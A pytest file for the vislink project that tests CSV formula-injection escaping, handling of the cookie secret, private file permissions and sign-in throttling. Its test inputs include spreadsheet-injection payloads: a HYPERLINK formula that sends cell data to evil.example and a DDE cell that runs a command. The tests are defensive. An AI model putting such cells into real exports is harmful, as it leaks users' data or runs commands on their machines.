"""Exports and secrets (issue #16 item 6): CSV exports no spreadsheet runs as formulas (and vislink reads its own
back unchanged); the UI's cookie secret in Streamlit's environment, never on its command line; the data folder
and vislink.db readable by their owner only, whatever the umask; password sign-in throttled per name in the
store; no fixed password in the product package. (OIDC: tests/test_ui.py::test_oidc_identities_map_to_annotators.)"""

from __future__ import annotations

import csv
import os
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from vislink.formats.spreadsheet import escape_cell, unescape_cell

REPO = Path(__file__).resolve().parents[1]

TRICKY = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
          "'=already quoted", "''", "'tis a title", "'", "plain", "", "a=b", "1-2"]


def test_escape_then_unescape_gives_every_value_back():
    for value in TRICKY:
        cell = escape_cell(value)
        assert unescape_cell(cell) == value
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert escape_cell("'tis a title") == "'tis a title" and unescape_cell("'tis a title") == "'tis a title"
    assert escape_cell(None) is None and escape_cell(3) == 3


@pytest.fixture
def second_db(tmp_path, migrated_sqlite_template):
    from vislink.store import db

    path = tmp_path / "second.db"
    shutil.copy(migrated_sqlite_template, path)
    yield f"sqlite:///{path}"
    db.get_engine(f"sqlite:///{path}").dispose()


def test_csv_export_escapes_formulas_and_imports_them_back(db_session, second_db, tmp_path):
    from vislink.graph import create_group, get_or_create, import_graph, set_link
    from vislink.graph.io import collect_graph_data, export_graph
    from vislink.store import db
    from vislink.store.models import Collection, Image

    refs = ["=cmd|' /C calc'!A0", "+img.jpg", "-img.jpg", "@img.jpg", "plain.jpg"]

    def collection(session):
        coll = Collection(name="c")
        session.add(coll)
        session.flush()
        images = [Image(collection_id=coll.id, source_ref=r, extra={}) for r in refs]
        session.add_all(images)
        session.flush()
        return coll, [i.id for i in images]

    coll, ids = collection(db_session)
    who = get_or_create(db_session, "alice")
    create_group(db_session, ids[:3], annotator_id=who.id, title="=1+1", note="@note", external_id="-g1")
    set_link(db_session, ids[3], ids[4], "positive", "\t=2+2", annotator_id=who.id)
    set_link(db_session, ids[0], ids[4], "negative", "'=quoted already", annotator_id=who.id)
    original = collect_graph_data(db_session, coll.id)
    path = tmp_path / "graph.csv"
    export_graph(db_session, coll.id, path)
    with path.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=1+1" in cells and "'@note" in cells and "'-g1" in cells and "''=quoted already" in cells
    with db.session_scope(second_db) as other:
        target, _ = collection(other)
        report = import_graph(other, target.id, path)
        assert report.missing_refs == [] and report.skipped == []
        copy = collect_graph_data(other, target.id)
    assert copy.groups == original.groups
    key = lambda links: sorted(links, key=lambda l: (l["a"], l["b"]))  # noqa: E731
    assert key(copy.links) == key(original.links)


def test_ui_cookie_secret_is_in_the_environment_not_the_command_line(vislink_env, tmp_path):
    """`vislink ui` replaces itself with Streamlit (exec): read that process's command line (world-readable,
    what `ps` shows) and environment (its owner's only) from /proc."""
    secret = "s3cret-cookie-" + os.urandom(6).hex()
    env = {**os.environ, "VISLINK_SECRET_KEY": secret}
    vislink = str(Path(sys.executable).with_name("vislink"))  # the console script of this environment
    dry = subprocess.run([vislink, "ui", "--dry-run"], env=env, capture_output=True,
                         text=True, timeout=60)
    assert dry.returncode == 0, dry.stderr
    assert secret not in dry.stdout + dry.stderr and "STREAMLIT_SERVER_COOKIE_SECRET" in dry.stderr
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    proc = subprocess.Popen([vislink, "ui", "--port", str(port)], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        cmdline = b""
        deadline = time.monotonic() + 60
        while b"streamlit" not in cmdline and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.05)
            cmdline = Path(f"/proc/{proc.pid}/cmdline").read_bytes()
        assert b"streamlit" in cmdline, f"streamlit did not start (exit {proc.poll()})"
        environ = Path(f"/proc/{proc.pid}/environ").read_bytes().split(b"\0")
    finally:
        proc.kill()
        proc.wait(timeout=10)
    assert secret.encode() not in cmdline and b"cookieSecret" not in cmdline
    assert f"STREAMLIT_SERVER_COOKIE_SECRET={secret}".encode() in environ


@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_data_folder_and_database_are_private_whatever_the_umask(tmp_path, monkeypatch, umask):
    from vislink.config import Settings
    from vislink.store import db

    home = tmp_path / "new" / "vislink-data"
    settings = Settings(home=home)
    url = f"sqlite:///{home / 'vislink.db'}"
    old = os.umask(umask)
    try:
        db.ensure_schema(url)  # the embedded store first, as a first command makes it: it creates its folder
        with db.get_engine(url).begin() as conn:  # a write: the WAL file appears
            conn.exec_driver_sql("CREATE TABLE IF NOT EXISTS t (x)")
            conn.exec_driver_sql("INSERT INTO t VALUES (1)")
        settings.ensure_dirs()
        from vislink.ingest.fetch import Fetcher

        Fetcher(home / "cache2", allow_hosts="").close()
    finally:
        os.umask(old)
        db.get_engine(url).dispose()
        db.dispose_engines()
    mode = lambda p: stat.S_IMODE(p.stat().st_mode)  # noqa: E731
    for folder in (home.parent, home, settings.images_dir, settings.cache_dir, settings.weights_dir,
                   settings.thumbs_dir, settings.models_dir, settings.reports_dir, home / "cache2"):
        assert mode(folder) == 0o700, f"{folder}: {oct(mode(folder))}"
    files = [home / "vislink.db", home / "vislink.db.migrate.lock"] + list(home.glob("vislink.db-*"))
    for path in files:
        assert mode(path) == 0o600, f"{path}: {oct(mode(path))}"
    # A folder that exists is its owner's choice: left as it is.
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o750)
    os.chmod(shared, 0o750)
    Settings(home=shared).ensure_dirs()
    assert mode(shared) == 0o750 and mode(shared / "images") == 0o700


def test_sign_in_is_throttled_per_name_in_the_store(vislink_env, monkeypatch):
    from vislink.graph import annotators as acc
    from vislink.store import db, session_scope

    monkeypatch.setattr(acc, "BCRYPT_ROUNDS", 4)
    with session_scope() as session:
        acc.create_annotator(session, "alice", "correct horse")
    t0 = 1_000_000.0

    def attempt(name, password, at):
        with session_scope() as session:  # one session per try, as the UI does
            return acc.sign_in(session, name, password, now=at)

    for i in range(acc.FREE_FAILURES):
        with pytest.raises(acc.VislinkError, match="unknown annotator or wrong password"):
            attempt("alice", "wrong", t0 + i)
    with pytest.raises(acc.SignInLocked, match="too many failed sign-ins for 'Alice': try again in 30 s"):
        attempt("Alice ", "wrong", t0 + 10)  # the name as typed, any case: one count
    db.dispose_engines()  # a new process (or a rerun) reads the same lock from the store
    with pytest.raises(acc.SignInLocked):
        attempt("alice", "correct horse", t0 + 20)  # locked: even the right password waits
    with pytest.raises(acc.SignInLocked, match="try again in 60 s"):  # the next failure doubles the lock
        attempt("alice", "wrong", t0 + 41)
    assert attempt("alice", "correct horse", t0 + 102).name == "alice"  # after the lock: signed in, counts cleared
    with session_scope() as session:
        assert acc.sign_in_failures(session, "alice") == 0
    # An unknown name is locked the same way: the lock tells nothing about which names exist.
    for i in range(acc.FREE_FAILURES):
        with pytest.raises(acc.VislinkError, match="unknown annotator or wrong password"):
            attempt("mallory", "x", t0 + i)
    with pytest.raises(acc.SignInLocked, match="'mallory': try again in 30 s"):
        attempt("mallory", "x", t0 + 10)
    # A password reset (vislink annotator passwd) unlocks the name.
    for i in range(acc.FREE_FAILURES + 1):
        with pytest.raises(acc.VislinkError):
            attempt("alice", "wrong", t0 + 200 + i)
    with pytest.raises(acc.SignInLocked):
        attempt("alice", "correct horse", t0 + 210)
    with session_scope() as session:
        acc.set_password(session, "alice", "a new password")
    assert attempt("alice", "a new password", t0 + 211).name == "alice"
    # Old failures are forgotten.
    assert pytest.raises(acc.VislinkError, attempt, "mallory", "x", t0 + acc.FORGET_AFTER_S + 20).type \
        is acc.VislinkError


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def store_url(request, vislink_env):
    from vislink.store import db

    if request.param == "sqlite":
        return vislink_env.database_url
    pg = request.getfixturevalue("pg_url")
    db.upgrade(pg)
    return pg


def test_failures_at_the_same_moment_are_all_counted(store_url, monkeypatch):
    """Guesses sent in parallel (threads here; UI processes alike) must not slip through by overwriting each
    other's count: one atomic upsert per failure, on SQLite and on PostgreSQL."""
    import threading

    from vislink.graph import annotators as acc
    from vislink.store import db

    monkeypatch.setattr(acc, "BCRYPT_ROUNDS", 4)
    n = 8
    barrier = threading.Barrier(n)
    outcomes: list[str] = []

    def guess():
        barrier.wait()
        with db.session_scope(store_url) as session:
            try:
                acc.sign_in(session, "carol", "guess", now=2_000_000.0)
            except acc.SignInLocked:
                outcomes.append("locked")
            except acc.VislinkError as exc:
                outcomes.append(str(exc))

    threads = [threading.Thread(target=guess) for _ in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert len(outcomes) == n, outcomes
    assert set(outcomes) <= {"locked", "unknown annotator or wrong password"}, outcomes
    with db.session_scope(store_url) as session:
        assert acc.sign_in_failures(session, "carol") == n
        with pytest.raises(acc.SignInLocked):
            acc.sign_in(session, "carol", "guess", now=2_000_001.0)


def test_ui_sign_in_says_when_a_name_is_locked(vislink_env, monkeypatch):
    from vislink.graph import annotators as acc
    from vislink.store import session_scope
    from vislink.ui import services

    monkeypatch.setattr(acc, "BCRYPT_ROUNDS", 4)
    monkeypatch.setattr(acc, "FREE_FAILURES", 2)
    with session_scope() as session:
        acc.create_annotator(session, "bea", "right password")
    for _ in range(2):
        with pytest.raises(acc.VislinkError, match="wrong password"):
            services.sign_in("bea", "nope")
    with pytest.raises(acc.SignInLocked, match="too many failed sign-ins for 'bea': try again in 30 s"):
        services.sign_in("bea", "nope")  # the third failure locks
    with pytest.raises(acc.SignInLocked):
        services.sign_in("bea", "right password")  # now even the right password waits


def test_no_fixed_password_in_the_product_package():
    """The demo's annotator gets a random password printed once (tests/test_demo.py::
    test_demo_annotator_is_created_once); the fixed one of the UI tests' fixture lives in tests/."""
    hits = [str(p.relative_to(REPO)) for p in (REPO / "vislink").rglob("*.py")
            if "demo-password" in p.read_text(encoding="utf-8")]
    assert hits == []
    assert "demo-password" in (REPO / "tests" / "demo_collection.py").read_text()
